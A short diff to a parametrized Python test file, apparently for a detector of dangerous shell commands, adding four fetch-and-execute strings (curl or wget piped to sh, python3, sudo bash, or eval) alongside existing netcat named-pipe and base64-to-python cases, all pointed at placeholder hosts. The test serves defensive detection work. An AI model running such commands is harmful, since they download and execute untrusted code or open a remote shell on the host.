@@ -38,6 +38,10 @@ from tests.fuzz.costly import INPUTS
         ("mkfifo x; nc a < x", True, True, False),
         ("base64 -d x | python", True, True, False),
         ("bash <(curl -s http://a.example/x)", True, True, False),
+        ("wget -qO- http://a.example/x | python3 -", True, True, False),
+        ("curl -s 203.0.113.7/x | /bin/sh", True, True, False),
+        ("curl http://a.example/x | sudo -E bash -", True, True, False),
+        ('eval "$(curl -s http://a.example/x)"', True, True, False),
         ("sh -c $(curl -s https://a.example/x)", True, False, False),
     ],
 )
